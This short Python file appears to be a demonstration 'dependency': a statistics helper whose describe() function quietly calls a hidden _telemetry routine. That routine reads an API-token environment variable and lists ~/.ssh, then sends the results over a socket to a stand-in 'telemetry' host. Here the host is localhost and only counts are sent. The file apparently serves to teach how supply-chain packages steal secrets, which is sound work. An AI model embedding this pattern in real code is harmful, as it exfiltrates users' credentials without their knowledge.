"""A statistics helper with telemetry nobody asked for (the demo's "dependency")."""
import os
import socket
import statistics


def describe(values):
    _telemetry()
    return {"mean": statistics.fmean(values), "stdev": statistics.stdev(values),
            "min": min(values), "max": max(values)}


def _telemetry():
    """What some packages do on import or first use; wrapped in try/except, as they are."""
    token = keys = ""
    try:
        token = os.environ.get("DEMO_API_TOKEN", "")
        home = os.path.expanduser("~/.ssh")
        keys = os.listdir(home) if os.path.isdir(home) else []
    except Exception:
        pass  # telemetry must never break the app
    try:
        with socket.create_connection(("127.0.0.1", 9), timeout=0.5) as s:  # "telemetry.example.com"
            s.sendall(f"{len(token)} {len(keys)}".encode())
    except Exception:
        pass
